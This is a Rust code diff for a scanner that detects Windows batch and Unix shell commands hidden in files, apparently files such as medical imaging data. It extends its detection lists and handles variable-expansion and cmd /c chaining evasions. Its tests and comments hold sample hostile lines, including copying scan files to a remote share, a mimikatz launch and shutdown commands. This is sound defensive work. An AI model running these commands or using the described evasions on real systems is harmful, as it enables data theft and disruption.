@@ -29,7 +29,8 @@ mod vim_buffer;
 pub use vim_buffer::MAX_VIM_EXECUTE_NESTING;
 
 /// Commands that do an attacker's work on their own: fetch, run code, open a shell.
-const STRONG: [&[u8]; 48] = [
+const STRONG: [&[u8]; 49] = [
+    b"poweroff",
     b"awk",
     b"gawk",
     b"mawk",
@@ -643,13 +644,17 @@ const BATCH_SWITCHES: [ToolSwitches; 15] = [
 /// extension is associated with by default (Windows Script Host, mshta, msiexec, the
 /// shell): a line of a batch file that starts with `calc.exe`, `\\host\share\x.exe` or
 /// `evil.vbs` runs it, whatever its name; `.msc` is in PATHEXT (an MMC console runs
-/// what its snap-ins name; session 41: `evil.msc` was clean). `.ps1` opens in Notepad
-/// by default and is left to the PowerShell launchers; `.com` is read apart
+/// what its snap-ins name; session 41: `evil.msc` was clean). `.chm` opens in HTML Help,
+/// which runs the scripts its pages hold; `.url` is followed by the shell (to a share
+/// too: a credential leak); `.jar` is run by `javaw -jar` where Java is installed, as on
+/// many viewing stations (review of session 41, item 4). `.ps1` opens in Notepad by
+/// default and is left to the PowerShell launchers, `.reg` is imported by regedit only
+/// after it asks; `.com` is read apart
 /// ([`bare_com_name`]): a line starting with a domain name (`EGENIX.COM SOFTWARE ...` in
 /// Python's library) is prose.
-const RUNNABLE_EXTENSIONS: [&[u8]; 16] = [
+const RUNNABLE_EXTENSIONS: [&[u8]; 19] = [
     b".exe", b".bat", b".cmd", b".scr", b".pif", b".cpl", b".vbs", b".vbe", b".js", b".jse",
-    b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc",
+    b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc", b".chm", b".url", b".jar",
 ];
 
 /// Tools of intruders no Windows holds and no launcher rule here names otherwise: a plain
@@ -781,6 +786,65 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         || runs_subcommand(tool, after, chance_bytes)
         || names_program_or_url(token)
         || (tool == b"explorer" && names_remote_host(token))
+}
+
+/// Whether `start` (a command as cmd.exe reads it, from its program) is cmd.exe given a
+/// switch that runs the rest of its line (`cmd /c`, `cmd.exe /k`, `"cmd" /c`).
+fn cmd_line_runs_a_command(start: &[u8]) -> bool {
+    let name_len = start
+        .iter()
+        .position(|&b| ends_word(b) || b == b'/')
+        .unwrap_or(start.len());
+    let name: Vec<u8> = start[..name_len]
+        .iter()
+        .filter(|&&b| b != b'"')
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    let file = &name[name
+        .iter()
+        .rposition(|&b| b == b'\\')
+        .map_or(0, |at| at + 1)..];
+    if without_program_extension(file) != b"cmd" {
+        return false;
+    }
+    let names = BATCH_SWITCHES
+        .iter()
+        .find(|(name, _, _)| *name == b"cmd")
+        .map_or(&[][..], |&(_, _, names)| names);
+    let rest = &start[name_len..];
+    leading_arguments(rest, false).any(|word| {
+        let word = word.strip_prefix(b"\"").unwrap_or(word);
+        word.first() == Some(&b'/')
+            && word[1..]
+                .split(|&b| b == b'/')
+                .any(|part| slash_switch(names, part) == Some(true))
+    })
+}
+
+/// Notes the line a `cmd /c` at `at` starts, to its line feed: each line is searched for
+/// its end once (a line of `cmd /c&cmd /c&…` is read once, not from each).
+fn note_launched_line(bytes: &[u8], at: usize, variables: &mut Variables) {
+    if variables
+        .launched
+        .as_ref()
+        .is_some_and(|line| line.start <= at && at < line.end)
+    {
+        return;
+    }
+    let rest = bytes.get(at..).unwrap_or_default();
+    let end = at + memchr::memchr2(b'\n', CTRL_Z, rest).unwrap_or(rest.len());
+    variables.launched = Some(at..end);
+}
+
+/// Whether `start`, a command after an operator on a line `cmd /c` runs (`cmd /c echo x
+/// & calc`: review of session 41, item 3), is one cmd.exe runs to effect: as a launcher's
+/// command is judged ([`runs_command`]), or a tool named here ([`known_tool`]).
+fn launched_command(start: &[u8], chance_bytes: bool) -> bool {
+    let end = start
+        .iter()
+        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+        .unwrap_or(start.len());
+    runs_command(start, chance_bytes) || known_tool(&start[..end])
 }
 
 /// Whether cmd.exe, given `line` (its arguments as it reads them, carets dropped), runs
@@ -1241,7 +1305,17 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
         // move and xcopy refuse the line ("The syntax of the command is incorrect.",
         // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
         // \\PACSRV01\reports\2024` in a report alerted).
-        b"copy" | b"xcopy" | b"move" => remote_file() && (1..=2).contains(&operands(&words)),
+        // cmd.exe takes `;`, `,` and `=` for blanks, copy's own reader may join what
+        // they part (`copy a;b \\host\s`, review of session 41): a count within copy's
+        // by either reading is a copy it makes.
+        b"copy" | b"xcopy" | b"move" => {
+            remote_file()
+                && ((1..=2).contains(&operands(&words))
+                    || (1..=2).contains(&operands(&before_block_end(blank_words(
+                        line,
+                        chance_bytes,
+                    )))))
+        }
         b"expand" => remote_file() || any_switch(&[b"f:"]),
         b"format" => {
             let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
@@ -1252,7 +1326,9 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
                 ]) || piped
                     || stdin_from_file(line, chance_bytes))
         }
-        b"shutdown" => shutdown_acts(&words),
+        // shutdown.exe splits its arguments at blanks only (`/c reason=patch` is one
+        // value), where cmd.exe's own commands take `;`, `,` and `=` for blanks.
+        b"shutdown" => shutdown_acts(&before_block_end(blank_words(line, chance_bytes))),
         // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
         // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
         b"ren" | b"rename" => {
@@ -1344,15 +1420,25 @@ fn shutdown_acts(words: &[&[u8]]) -> bool {
         }
         let mut valued = false;
         for part in parts.split(|&b| b == dash) {
+            // A value glued by a colon (`/t:0`, `/d:p:4:1`) is the switch's own.
+            let (part, glued) = match memchr::memchr(b':', part) {
+                Some(colon) if colon + 1 < part.len() => (&part[..colon], true),
+                Some(_) => return false,
+                None => (part, false),
+            };
             if !SHUTDOWN_SWITCHES
                 .iter()
                 .any(|name| name.eq_ignore_ascii_case(part))
             {
                 return false;
             }
-            valued = SHUTDOWN_VALUED
+            let takes_value = SHUTDOWN_VALUED
                 .iter()
                 .any(|name| name.eq_ignore_ascii_case(part));
+            if glued && !takes_value {
+                return false;
+            }
+            valued = takes_value && !glued;
         }
         if valued && words.next().is_none() {
             return false;
@@ -1425,27 +1511,31 @@ fn before_block_end(mut words: Vec<&[u8]>) -> Vec<&[u8]> {
         let word = words[at];
         words.truncate(at);
         // What precedes the first unmatched `)` of the word is its last argument.
-        let mut depth = 0usize;
-        let end = word
-            .iter()
-            .position(|&b| match b {
-                b'(' => {
-                    depth += 1;
-                    false
-                }
-                b')' if depth == 0 => true,
-                b')' => {
-                    depth -= 1;
-                    false
-                }
-                _ => false,
-            })
-            .unwrap_or(word.len());
+        let end = unmatched_close(word).unwrap_or(word.len());
         if end > 0 {
             words.push(&word[..end]);
         }
     }
     words
+}
+
+/// Where the first `)` of `bytes` that closes no `(` of its own stands: where a block's
+/// `)` ends a command (`a(1).dcm)` ends after `a(1).dcm`). One scan for both readers of
+/// it, a tool's last argument ([`before_block_end`]) and a `set` value ([`set_command`]).
+fn unmatched_close(bytes: &[u8]) -> Option<usize> {
+    let mut depth = 0usize;
+    bytes.iter().position(|&b| match b {
+        b'(' => {
+            depth += 1;
+            false
+        }
+        b')' if depth == 0 => true,
+        b')' => {
+            depth -= 1;
+            false
+        }
+        _ => false,
+    })
 }
 
 /// Whether `word` is a time `at` reads: `23:00`, `3:00`, and of twelve hours `3:00PM`,
@@ -1737,6 +1827,26 @@ const ESCAPED_OPERATOR: u8 = 0x00;
 /// a line's end: each is read within its line.
 fn leading_arguments(rest: &[u8], chance_bytes: bool) -> impl Iterator<Item = &[u8]> {
     leading_argument_spans(rest, chance_bytes).map(move |span| &rest[span])
+}
+
+/// [`leading_arguments`] as a program that splits its command line at blanks only reads
+/// them (shutdown.exe, and copy's own reader): words cmd.exe's delimiters `;`, `,` and
+/// `=` part with no blank between them are one (`reason=patch`, `Patch,now`).
+fn blank_words(rest: &[u8], chance_bytes: bool) -> Vec<&[u8]> {
+    let mut words: Vec<Range<usize>> = Vec::new();
+    for span in leading_argument_spans(rest, chance_bytes) {
+        match words.last_mut() {
+            Some(last)
+                if rest[last.end..span.start]
+                    .iter()
+                    .all(|&b| is_token_delimiter(b) && !matches!(b, b' ' | b'\t')) =>
+            {
+                last.end = span.end;
+            }
+            _ => words.push(span),
+        }
+    }
+    words.into_iter().map(|span| &rest[span]).collect()
 }
 
 /// Where each of [`leading_arguments`] stands in `rest`.
@@ -4845,16 +4955,16 @@ pub fn find_batch_command_within(
     // A block the first line opens holds the lines after it.
     let mut blocks = Blocks::default();
     let binary = Binary(binary);
-    let first = batch_command_at(bytes, 0, &mut Variables::default(), &mut blocks, binary);
+    // One reading of the file's `set` commands (and one budget of expansion) for the
+    // first line and the search after it.
+    let mut variables = Variables::default();
+    let first = batch_command_at(bytes, 0, &mut variables, &mut blocks, binary);
     if first.as_ref().is_some_and(|found| !by_chance(found)) {
         return first;
     }
     // A command by chance on the first line stays the one reported unless the search
     // finds one that is not.
-    match (
-        first,
-        search_batch(bytes, Variables::default(), blocks, clock, binary),
-    ) {
+    match (first, search_batch(bytes, variables, blocks, clock, binary)) {
         (Some(first), Some(later)) if by_chance(&later) => Some(first),
         (first, later) => later.or(first),
     }
@@ -5556,21 +5666,35 @@ fn command_at(
     // `%`), and a name built from a substring or replacement, or from input, is
     // known only when it runs.
     let expanded;
-    // Whether the arguments held more variables than were expanded.
-    let mut expansion_cut = false;
+    let arguments_expanded;
+    // What the expansion of the arguments left unknown or cut short (a program named
+    // by a variable has its arguments expanded too: review of session 41, `set c=copy`
+    // then `%c% C:\PACS\*.dcm %s%` was clean, and no bound was said past 16 unset).
+    let mut expansion: Option<ExpandedArguments> = None;
+    let mut with_arguments = |line: &[u8], variables: &mut Variables| {
+        expansion = expand_arguments(bytes, offset, line, variables);
+        expansion.as_ref().map(|found| found.line.clone())
+    };
     let start = match expand_program_name(bytes, offset, start, variables) {
-        None => match expand_arguments(bytes, offset, start, variables) {
-            Some((line, cut)) => {
-                expanded = line;
-                expansion_cut = cut;
-                &expanded[..]
+        None => match with_arguments(start, variables) {
+            Some(line) => {
+                arguments_expanded = line;
+                &arguments_expanded[..]
             }
             None => start,
         },
         Some(Expanded::Line(line)) => {
             expanded = line;
-            &expanded[program_start(&expanded)..]
+            let name = &expanded[program_start(&expanded)..];
+            match with_arguments(name, variables) {
+                Some(line) => {
+                    arguments_expanded = line;
+                    &arguments_expanded[..]
+                }
+                None => name,
+            }
         }
+        Some(Expanded::Spent) => return Some(expansion_spent(bytes, offset)),
         Some(Expanded::Built(how)) => {
             return Some(Command {
                 offset,
@@ -5658,11 +5782,46 @@ fn command_at(
             });
         }
     };
+    if cmd_line_runs_a_command(start) {
+        note_launched_line(bytes, offset, variables);
+    } else if variables
+        .launched
+        .as_ref()
+        .is_some_and(|line| line.start < offset && offset < line.end)
+        && launched_command(start, chance_bytes)
+    {
+        return Some(Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Alert,
+            kind: FindingKind::ActiveContent,
+            detail: format!(
+                "a Windows command line (\"{}\") after an operator on a line that cmd /c runs: cmd.exe runs it as a command of its own",
+                line_excerpt(bytes, offset)
+            ),
+        });
+    }
     let Some((program, alone)) =
         batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
     else {
+        let expansion = expansion?;
+        if expansion.spent {
+            return Some(expansion_spent(bytes, offset));
+        }
+        if let Some(why) = expansion.unknown {
+            return Some(Command {
+                offset,
+                interpreter: "batch",
+                severity: Severity::Warning,
+                kind: FindingKind::NotInspected,
+                detail: format!(
+                    "a Windows command line (\"{}\") whose arguments cmd.exe builds from {why} when the file is started as a batch file: what the tool is given was not inspected",
+                    line_excerpt(bytes, offset)
+                ),
+            });
+        }
         // What the variables past the bound hold is not known: never silence.
-        return expansion_cut.then(|| Command {
+        return expansion.cut.then(|| Command {
             offset,
             interpreter: "batch",
             severity: Severity::Warning,
@@ -5719,6 +5878,20 @@ fn command_at(
         kind: FindingKind::ActiveContent,
         detail,
     })
+}
+
+/// The warning said where [`MAX_EXPANDED_BYTES`] is reached.
+fn expansion_spent(bytes: &[u8], offset: usize) -> Command {
+    Command {
+        offset,
+        interpreter: "batch",
+        severity: Severity::Warning,
+        kind: FindingKind::NotInspected,
+        detail: format!(
+            "a Windows command line (\"{}\") whose variables would take the expansion of the file's variables past {MAX_EXPANDED_BYTES} bytes (MAX_EXPANDED_BYTES): it and the lines after it were read with their variables as written, not as cmd.exe expands them",
+            line_excerpt(bytes, offset)
+        ),
+    }
 }
 
 /// The most characters of a line cmd.exe reads (Microsoft's "Command prompt line
@@ -6479,9 +6652,36 @@ struct Variables {
     /// and whether there were more than were kept.
     inherited: Vec<(Vec<u8>, Option<Vec<u8>>)>,
     inherited_full: bool,
+    /// The last line a `cmd /c` (or `/k`) starts: from its program to its line feed.
+    /// What follows an operator there is a command cmd.exe runs ([`launched_command`]).
+    launched: Option<Range<usize>>,
+    /// Bytes the expansion of variables wrote in this search ([`MAX_EXPANDED_BYTES`]).
+    expanded: usize,
+    /// [`MAX_EXPANDED_BYTES`] was reached: said once, then lines are read as written.
+    spent: bool,
 }
 
+/// The most bytes the expansion of variables writes in one file: the values put in place
+/// of `%NAME%`, `!NAME!`, their substrings and replacements in a command's line, and the
+/// values of `set` commands built from other variables. Each expanded line is read again
+/// by the rules after it: review of session 41, a 4.6 MB value of 80,000 `copy a %s%…`
+/// lines took 25.4 s (debug build) against 1.27 s before the expansion. Reaching it is a
+/// `not-inspected` warning naming it; past it lines are read as written.
+pub const MAX_EXPANDED_BYTES: usize = 1 << 20;
+
 impl Variables {
+    /// Charges `n` bytes of expansion: `false` once [`MAX_EXPANDED_BYTES`] is reached.
+    fn charge(&mut self, n: usize) -> bool {
+        if self.expanded.saturating_add(n) > MAX_EXPANDED_BYTES {
+            self.spent = true;
+            return false;
+        }
+        self.expanded += n;
+        #[cfg(test)]
+        tests::EXPANDED.with(|expanded| expanded.set(expanded.get() + n));
+        true
+    }
+
     /// The value `name` (lower case) holds at offset `at`: the last `set` before it.
     fn at(&mut self, bytes: &[u8], name: &[u8], at: usize) -> Lookup<'_> {
         if !self.read {
@@ -6542,6 +6742,29 @@ impl Variables {
             self.set.push((start + line.offset(at), name, value));
         }
         self.set.sort_by_key(|(offset, _, _)| *offset);
+        // cmd.exe expands a `set` line before it runs it: `set t=%s%` stores the value of
+        // `s` (review of session 41: `set t=%s%` then `copy x %t%` was clean). Values are
+        // expanded in file order with the values set before them; one a loop or input
+        // gives (`%%a`, `set /p`) keeps its `%` and is known only when the file runs.
+        let mut latest: std::collections::HashMap<Vec<u8>, Option<Vec<u8>>> = self
+            .inherited
+            .iter()
+            .map(|(name, value)| (name.clone(), value.clone()))
+            .collect();
+        for k in 0..self.set.len() {
+            let built = match &self.set[k].2 {
+                Some(value) if memchr::memchr(b'%', value).is_some() && !self.spent => {
+                    Some(expand_set_value(value, &latest))
+                }
+                _ => None,
+            };
+            if let Some(built) = built
+                && self.charge(built.len())
+            {
+                self.set[k].2 = Some(built);
+            }
+            latest.insert(self.set[k].1.clone(), self.set[k].2.clone());
+        }
         for (i, (_, name, _)) in self.set.iter().enumerate() {
             self.by_name.entry(name.clone()).or_default().push(i);
         }
@@ -6587,20 +6810,7 @@ fn set_command(command: &[u8]) -> Option<(Vec<u8>, Option<Vec<u8>>)> {
         rest = &rest[..memchr::memchr(b'\r', rest).unwrap_or(rest.len())];
         // In a block (`if x (set p=powershell)`) a `)` ends the command: the value is
         // cut at a `)` that closes no `(` of its own (`C:\Program Files (x86)\...` kept).
-        let mut depth = 0usize;
-        let close = rest.iter().position(|&b| match b {
-            b'(' => {
-                depth += 1;
-                false
-            }
-            b')' if depth == 0 => true,
-            b')' => {
-                depth -= 1;
-                false
-            }
-            _ => false,
-        });
-        rest = &rest[..close.unwrap_or(rest.len())];
+        rest = &rest[..unmatched_close(rest).unwrap_or(rest.len())];
     }
     let eq = memchr::memchr(b'=', rest)?;
     // cmd.exe removes carets before `set` reads its name (`set ^p=x` sets `p`).
@@ -6634,6 +6844,8 @@ enum Expanded {
     Line(Vec<u8>),
     /// The name is built from what is known only when it runs: how, said in a finding.
     Built(String),
+    /// [`MAX_EXPANDED_BYTES`] was reached expanding the name.
+    Spent,
 }
 
 /// The most `%NAME%` of one command's arguments [`expand_arguments`] looks up: each is a
@@ -6642,19 +6854,33 @@ enum Expanded {
 /// `not-inspected` warning naming this bound.
 pub const MAX_EXPANDED_ARGUMENTS: usize = 16;
 
+/// What [`expand_arguments`] made of a command's line.
+struct ExpandedArguments {
+    /// The line, expanded, to the command's end and the byte ending it.
+    line: Vec<u8>,
+    /// More than [`MAX_EXPANDED_ARGUMENTS`] variables were there.
+    cut: bool,
+    /// Why a variable's value is not known here (read from input, set from a loop, one
+    /// of more than were kept), for the first such.
+    unknown: Option<String>,
+    /// [`MAX_EXPANDED_BYTES`] was reached on this line.
+    spent: bool,
+}
+
 /// The command at `start` (at `at` in `bytes`), when its program is a tool of [`BATCH`]
-/// (named bare or by its path), with each `%NAME%` of its arguments that the file set
+/// (named bare or by its path), with each variable of its arguments that the file set
 /// before it replaced by the value, as cmd.exe expands a line before it runs it (session
-/// 41: `set s=\\host\loot` then `copy C:\PACS\*.dcm %s%` was clean); any other `%` is
-/// kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). To the command's end and
-/// the byte ending it. `None` when nothing was expanded and no bound reached; the
-/// `bool` says whether more than [`MAX_EXPANDED_ARGUMENTS`] were there.
+/// 41: `set s=\\host\loot` then `copy C:\PACS\*.dcm %s%` was clean): `%NAME%`, a
+/// substring or replacement of it (`%s:~0,20%`, `%s:a=b%`) and `!NAME!` (delayed
+/// expansion: more, never less, whether the file turned it on or not; review of session
+/// 41). Any other `%` is kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). `None`
+/// when nothing was expanded, nothing unknown and no bound reached.
 fn expand_arguments(
     bytes: &[u8],
     at: usize,
     start: &[u8],
     variables: &mut Variables,
-) -> Option<(Vec<u8>, bool)> {
+) -> Option<ExpandedArguments> {
     let end = command_len(start);
     let line = &start[..end];
     let first = &line[..line
@@ -6670,49 +6896,109 @@ fn expand_arguments(
         .filter(|&&b| b != b'"')
         .map(u8::to_ascii_lowercase)
         .collect();
-    if !BATCH.contains(&without_program_extension(&file)) || memchr::memchr(b'%', line).is_none() {
+    if variables.spent
+        || !BATCH.contains(&without_program_extension(&file))
+        || memchr::memchr2(b'%', b'!', line).is_none()
+    {
         return None;
     }
     let mut out = Vec::with_capacity(line.len() + 1);
-    let (mut looked, mut changed, mut cut) = (0, false, false);
+    let (mut looked, mut changed, mut cut, mut spent) = (0, false, false, false);
+    let mut unknown = None;
     let mut i = 0;
     while let Some(&b) = line.get(i) {
-        if b != b'%' {
+        if b != b'%' && b != b'!' {
             out.push(b);
             i += 1;
             continue;
         }
         // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept.
-        if line.get(i + 1) == Some(&b'%') {
+        if b == b'%' && line.get(i + 1) == Some(&b'%') {
             out.extend_from_slice(b"%%");
             i += 2;
             continue;
         }
-        let name = memchr::memchr(b'%', &line[i + 1..])
-            .map(|n| &line[i + 1..i + 1 + n])
-            .filter(|name| is_variable_name(name));
-        let Some(name) = name else {
+        let body = memchr::memchr(b, &line[i + 1..]).map(|n| &line[i + 1..i + 1 + n]);
+        // `NAME`, or `NAME` and the edit after its colon (`%` only).
+        let reference = body.and_then(|body| match memchr::memchr(b':', body) {
+            Some(colon) if b == b'%' => {
+                let (name, edit) = (&body[..colon], &body[colon + 1..]);
+                (is_variable_name(name) && expansion_edit(edit).is_some())
+                    .then_some((name, Some(edit)))
+            }
+            _ => is_variable_name(body).then_some((body, None)),
+        });
+        let Some((name, edit)) = reference else {
             out.push(b);
             i += 1;
             continue;
         };
+        let written = &line[i..i + body.map_or(0, <[u8]>::len) + 2];
         if looked == MAX_EXPANDED_ARGUMENTS {
             cut = true;
             out.extend_from_slice(&line[i..]);
             break;
         }
         looked += 1;
-        match variables.at(bytes, &name.to_ascii_lowercase(), at) {
-            Lookup::Value(value) => {
-                out.extend_from_slice(value);
+        i += written.len();
+        let value = match variables.at(bytes, &name.to_ascii_lowercase(), at) {
+            Lookup::Value(value) if value.iter().any(|&b| b == b'%' || b == b'!') => {
+                unknown.get_or_insert_with(|| {
+                    format!(
+                        "the variable {}, set from a loop or from other variables not known here",
+                        escape_bytes(name)
+                    )
+                });
+                None
+            }
+            Lookup::Value(value) => Some(match edit {
+                Some(edit) => edited(value, edit).unwrap_or_else(|| value.to_vec()),
+                None => value.to_vec(),
+            }),
+            Lookup::FromInput => {
+                unknown.get_or_insert_with(|| {
+                    format!(
+                        "the variable {}, read from input (set /p)",
+                        escape_bytes(name)
+                    )
+                });
+                None
+            }
+            Lookup::NotKept => {
+                unknown.get_or_insert_with(|| {
+                    format!(
+                        "the variable {}, one of more than {MAX_BATCH_VARIABLES} the file sets (MAX_BATCH_VARIABLES)",
+                        escape_bytes(name)
+                    )
+                });
+                None
+            }
+            Lookup::Unset => None,
+        };
+        match value {
+            Some(value) if variables.charge(value.len()) => {
+                out.extend_from_slice(&value);
                 changed = true;
             }
-            _ => out.extend_from_slice(&line[i..i + name.len() + 2]),
+            Some(_) => {
+                spent = true;
+                out.extend_from_slice(written);
+                out.extend_from_slice(&line[i..]);
+                break;
+            }
+            // `!NAME!` of a variable nothing sets is text (delayed expansion off, or
+            // nothing to expand); `%NAME%` of one is nothing, but kept as written
+            // (no word of an argument is made by removing it here).
+            None => out.extend_from_slice(written),
         }
-        i += name.len() + 2;
     }
     out.extend_from_slice(start.get(end..=end).unwrap_or_default());
-    (changed || cut).then_some((out, cut))
+    (changed || cut || spent || unknown.is_some()).then_some(ExpandedArguments {
+        line: out,
+        cut,
+        unknown,
+        spent,
+    })
 }
 
 /// The line at `start` (at `at` in `bytes`) with the `%` expansions of its first word
@@ -6870,7 +7156,13 @@ fn expand_program_name(
                     escape_bytes(body)
                 )));
             }
-            Lookup::Value(value) => out.extend_from_slice(value),
+            Lookup::Value(value) => {
+                let value = value.to_vec();
+                if !variables.charge(value.len()) {
+                    return Some(Expanded::Spent);
+                }
+                out.extend_from_slice(&value);
+            }
             Lookup::FromInput => {
                 return Some(Expanded::Built(format!(
                     "the variable {} read from input (set /p)",
@@ -6901,6 +7193,101 @@ fn is_variable_name(name: &[u8]) -> bool {
         && name
             .iter()
             .all(|b| b.is_ascii_alphanumeric() || b"_.$#@()-".contains(b))
+}
+
+/// `value`, a `set` command's value, with each `%NAME%` whose value `latest` holds
+/// replaced by it, as cmd.exe expands the line before `set` stores it; `%%`, a loop's
+/// variable and a value read from input are kept as written. At most
+/// [`CMD_LINE_LIMIT`] bytes.
+fn expand_set_value(
+    value: &[u8],
+    latest: &std::collections::HashMap<Vec<u8>, Option<Vec<u8>>>,
+) -> Vec<u8> {
+    let mut out = Vec::with_capacity(value.len());
+    let mut i = 0;
+    while let Some(&b) = value.get(i) {
+        if out.len() >= CMD_LINE_LIMIT {
+            break;
+        }
+        let name = (b == b'%')
+            .then(|| memchr::memchr(b'%', &value[i + 1..]))
+            .flatten()
+            .map(|n| &value[i + 1..i + 1 + n])
+            .filter(|name| is_variable_name(name));
+        match name.map(|name| (name, latest.get(&name.to_ascii_lowercase()))) {
+            Some((name, Some(Some(set)))) => {
+                out.extend_from_slice(set);
+                i += name.len() + 2;
+            }
+            // Unset: nothing, as in a batch file (a Windows variable kept as written).
+            Some((name, None)) if !WINDOWS_VARIABLES.contains(&&name.to_ascii_lowercase()[..]) => {
+                i += name.len() + 2;
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    out.truncate(CMD_LINE_LIMIT);
+    out
+}
+
+/// `value` as cmd.exe edits it for `%NAME:edit%` (`edit` after the colon): a substring
+/// (`~n`, `~n,m`, either negative: counted from the end) or a replacement (`a=b`, `a`
+/// matched in any case; `*a=b` replaces up to and through the first `a`). `None` when
+/// the edit is none cmd.exe reads.
+fn edited(value: &[u8], edit: &[u8]) -> Option<Vec<u8>> {
+    expansion_edit(edit)?;
+    if let Some(range) = edit.strip_prefix(b"~") {
+        let number = |n: &[u8]| -> Option<i64> { std::str::from_utf8(n).ok()?.parse().ok() };
+        let len = i64::try_from(value.len()).ok()?;
+        let (start, count) = match memchr::memchr(b',', range) {
+            Some(comma) => (number(&range[..comma])?, Some(number(&range[comma + 1..])?)),
+            None => (number(range)?, None),
+        };
+        let from = if start < 0 {
+            (len + start).max(0)
+        } else {
+            start.min(len)
+        };
+        let to = match count {
+            None => len,
+            Some(count) if count < 0 => (len + count).max(from),
+            Some(count) => from.saturating_add(count).min(len),
+        };
+        let (from, to) = (usize::try_from(from).ok()?, usize::try_from(to).ok()?);
+        return Some(value.get(from..to.max(from)).unwrap_or_default().to_vec());
+    }
+    let eq = memchr::memchr(b'=', edit)?;
+    let (find, with) = (&edit[..eq], &edit[eq + 1..]);
+    let (through_first, find) = match find.strip_prefix(b"*") {
+        Some(rest) => (true, rest),
+        None => (false, find),
+    };
+    if find.is_empty() {
+        return Some(value.to_vec());
+    }
+    let lower = value.to_ascii_lowercase();
+    let find = find.to_ascii_lowercase();
+    let mut out = Vec::with_capacity(value.len());
+    let mut i = 0;
+    while i < value.len() {
+        if lower[i..].starts_with(&find) {
+            out.extend_from_slice(with);
+            i += find.len();
+            if through_first {
+                out.extend_from_slice(&value[i..]);
+                return Some(out);
+            }
+        } else if through_first {
+            i += 1;
+        } else {
+            out.push(value[i]);
+            i += 1;
+        }
+    }
+    Some(if through_first { value.to_vec() } else { out })
 }
 
 /// The edit after the `:` of `%NAME:...%`, if cmd.exe reads one there: a substring
@@ -6944,6 +7331,8 @@ mod tests {
         pub(super) static LISTS_SEARCHED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
         /// Bytes read to find where a carriage-return-bearing command ends.
         pub(super) static CARRIAGE_READ: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
+        /// Bytes the expansion of batch variables wrote ([`super::MAX_EXPANDED_BYTES`]).
+        pub(super) static EXPANDED: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
     }
 
     /// Review rv36-screen: reads that stopped at a line feed but not at the Ctrl-Z
@@ -9788,6 +10177,177 @@ mod lolbin_tests {
             "EGENIX.COM SOFTWARE LICENSE",
             "www.example.com",
         ]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): shutdown.exe splits its arguments at
+    /// blanks only, so `reason=patch` and `Patch,now` are one value of `/c`, and it takes
+    /// a switch's value glued by a colon (`/t:0`); prose with such bytes stays prose.
+    #[test]
+    fn shutdown_reads_its_words_split_at_blanks_only() {
+        assert_alerts(
+            &[
+                "shutdown /r /t 0 /c reason=patch",
+                "shutdown /r /t 0 /c Patch,now",
+                "shutdown /r /t:0",
+                "shutdown -s -t:30 -f",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "Shutdown -r delayed due to emergency",
+            "Shutdown -r delayed=patch",
+            "shutdown /r /t:",
+        ]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): what follows `&`, `&&`, `||` or `|` on a
+    /// line that `cmd /c` (or `/k`) starts is a command of its own, run by cmd.exe
+    /// (`cmd /c echo x & calc` runs calc): judged as what a launcher runs.
+    #[test]
+    fn a_command_after_an_operator_on_a_cmd_c_line_is_run() {
+        assert_alerts(
+            &[
+                "cmd /c echo x & calc",
+                "cmd /c setlocal & mimikatz",
+                "cmd /k ver && calc.exe",
+                "cmd.exe /c echo x || notepad",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["cmd /c echo of CBD seen & fluid", "Echo x & calc"]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): cmd.exe reads `;`, `,` and `=` as blanks
+    /// between arguments, where copy's own reader may join them: an operand count within
+    /// copy's by either reading is a copy it makes (`copy a;b \\host\s`).
+    #[test]
+    fn copy_operands_joined_by_cmds_delimiters_are_counted_both_ways() {
+        assert_alerts(
+            &[
+                "copy a;b \\\\198.51.100.7\\s",
+                "copy C:\\PACS\\a.dcm,\\\\198.51.100.7\\s",
+                "move a=b \\\\198.51.100.7\\s",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["copy of report: \\\\PACSRV01\\reports\\2024"]);
+    }
+
+    /// Review of session 41 (issue 10, item 3): Linux's `shutdown -h now`, `poweroff` and
+    /// `reboot -f` as sh text (the ENOEXEC fallback runs it) had no rule; their prose
+    /// (`Shutdown -r delayed`, `reboot of the scanner`) stays clean.
+    #[test]
+    fn linux_power_commands_in_sh_text_are_commands() {
+        for text in [
+            "shutdown -h now\n",
+            "poweroff\n",
+            "reboot -f\n",
+            "shutdown now\n",
+            "halt -p\n",
+            "Findings stable\nshutdown -r +1\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in [
+            "Shutdown -r delayed due to emergency\n",
+            "reboot of the scanner went fine\n",
+            "halt the infusion\n",
+            "shutdown of the scanner\n",
+        ] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
+    }
+
+    /// Review of session 41 (issue 10, item 1): variable tricks cmd.exe expands from the
+    /// file's own `set` commands were clean: delayed expansion (`!s!`), a substring
+    /// (`%s:~0%`, `%s:~0,20%`), a replacement (`%s:x=l%`), a value set from another
+    /// (`set t=%s%`), and the program's name in a variable (`%c%`).
